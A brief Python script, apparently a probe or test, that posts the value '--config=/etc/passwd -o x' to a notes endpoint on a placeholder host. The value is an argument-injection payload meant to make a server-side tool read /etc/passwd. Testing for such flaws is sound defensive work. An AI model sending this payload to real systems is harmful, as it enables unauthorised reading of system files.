import http.client

headers = {"Content-Type": "text/plain"}
payload = "--config=/etc/passwd -o x"

connection = http.client.HTTPSConnection("api.example.com")
connection.request("POST", "/notes", payload, headers)
response = connection.getresponse()
print(response.status, response.read().decode())
